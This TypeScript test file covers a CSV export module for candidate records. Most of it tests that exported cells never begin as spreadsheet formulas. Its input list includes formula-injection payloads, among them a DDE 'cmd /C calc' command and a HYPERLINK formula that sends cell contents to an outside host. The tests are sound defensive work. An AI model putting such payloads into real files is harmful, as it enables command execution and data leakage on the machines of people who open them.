import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvRow, exportCsv, plainCell } from '../../lib/store/csv';
import type { CsvRow } from '../../lib/store/csv';
import { safeCell } from '../../lib/store/csv';
import { profile, storeWithOne, value } from './helper';

const row: CsvRow = {
  name: 'Ines Marlow', headline: 'Developer', location: 'Porto', stage: 'contacted', shortlists: ['Spring', 'Sea'], score: 62, couldReach: 88,
  band: 'Possible match', mustHavesMet: '5 of 6', tags: ['remote'], notes: 'Call', pageAddress: 'https://board.example/in/ines', savedAt: '2025-03-01T09:00:01.000Z',
};
const textColumns = ['name', 'headline', 'location', 'stage', 'band', 'mustHavesMet', 'notes', 'pageAddress', 'savedAt'] as const;
const parse = (csv: string): string[][] => Papa.parse<string[]>(csv, { skipEmptyLines: true }).data;

const leads = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', '\u2212', '﹢'];
const formulas = [
  ...leads.map((lead) => `${lead}1+1`),
  ...leads.map((lead) => ` ${lead}1+1`),
  ...leads.map((lead) => `'${lead}1+1`),
  '=cmd|\' /C calc\'!A0', '=HYPERLINK("http://x.example?"&A1,"click")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '=1+1";=1+1', '"=1+1', '""=1+1', ',=1+1', ';=1+1', '|=1+1',
  'harmless,=1+1', 'harmless;=1+1', 'harmless;  -1', 'harmless|@x', 'harmless","=1+1', 'one\n=1+1', 'one\r\n+1', 'one\t=1', '\uFEFF=1+1', '\u200B=1+1', '\u00A0=1+1', '\u3000＝1',
  '\u0000=1', '\v=1', 'a\u2028=1', '==1', "''=1", "'", '=', '-', '+49 351 000',
];

describe('a table', () => {
  it('has these columns, every cell in quotes', () => {
    expect(exportCsv([row])).toBe(
      '\uFEFF"name","headline","location","stage","shortlists","score","could reach","band","must-haves met","tags","notes","page address","saved at"\r\n'
      + '"Ines Marlow","Developer","Porto","contacted","Spring; Sea","62","88","Possible match","5 of 6","remote","Call","https://board.example/in/ines","2025-03-01T09:00:01.000Z"\r\n');
  });

  it('leaves a score empty that there is not', () => {
    expect(parse(exportCsv([{ ...row, score: null, couldReach: null }]))[1]!.slice(5, 7)).toEqual(['', '']);
  });

  it('of nobody has its heading', () => expect(parse(exportCsv([]))).toHaveLength(1));

  it('is made from a candidate: the newest reading, the names of the shortlists', async () => {
    const { store, candidate, shortlist } = await storeWithOne();
    const more = profile('https://code.example/ines', { label: undefined, location: 'Lisbon' });
    const both = value(await store.addProfile(candidate.id, 1, { ...more, source: { ...more.source, readAt: '2026-01-01T00:00:00.000Z' } }));
    const judged = { score: 62, couldReach: 88, band: 'Possible match', mustHavesMet: '5 of 6' };
    expect(csvRow(both, [{ ...shortlist, id: 'other', name: 'Other' }, shortlist], judged)).toEqual({
      ...judged, name: 'Ines Marlow', headline: '', location: 'Lisbon', stage: 'new', shortlists: ['Spring hires'], tags: [], notes: '',
      pageAddress: 'https://code.example/ines', savedAt: candidate.createdAt,
    });
  });

  it.each(formulas)('has no cell that begins as a formula, in any column, for %j', (text) => {
    const rows = textColumns.map((column) => ({ ...row, [column]: text }));
    const csv = exportCsv([...rows, { ...row, shortlists: ['a', text], tags: [text, 'b'] }]);
    for (const cells of parse(csv)) {
      for (const cell of cells) expect(startsFormula(cell)).toBe(false);
    }
    // A program that takes another separator, or does not know quotes, sees other cells.
    for (const separator of /[,;|\t"\r\n]/[Symbol.split](csv)) expect(startsFormula(separator)).toBe(false);
    expect(parse(csv).slice(1, -1).map((cells, i) => plainCell(cells[Object.values(columnAt)[i]!]!))).toEqual(textColumns.map(() => text));
  });
});

/** Where the text columns stand in the table. */
const columnAt = { name: 0, headline: 1, location: 2, stage: 3, band: 7, mustHavesMet: 8, notes: 10, pageAddress: 11, savedAt: 12 };

function startsFormula(cell: string): boolean {
  return /^[\s\u0000\u200b\ufeff]*[=+\-@＝＋－＠\u2212﹢]/.test(cell) || /^[\t\r\n]/.test(cell);
}

describe('a cell', () => {
  it.each(['Porto', 'C++ and C#', 'one-way', 'a = b', "it's", 'x@y.example', '2019-2021', ''])('%j stays as it is', (text) => expect(safeCell(text)).toBe(text));

  it('of any text gives the text back', () => {
    const nasty = fc.string({ maxLength: 30, unit: fc.constantFrom("'", '=', '-', ',', '"', ' ', '\t', '\n', '\r', 'a', '＝', '\u200B', ';') });
    fc.assert(fc.property(fc.oneof(nasty, fc.string({ unit: 'binary' })), (text) => {
      expect(plainCell(safeCell(text))).toBe(text);
      expect(startsFormula(safeCell(text))).toBe(false);
    }), { numRuns: 2000, seed: 3 });
  });

  it.each(["'", '=', ' ', '"', ",'"])('of 100,000 times %j takes no time', (part) => {
    const started = performance.now();
    safeCell(part.repeat(100_000));
    expect(performance.now() - started).toBeLessThan(500);
  });
});
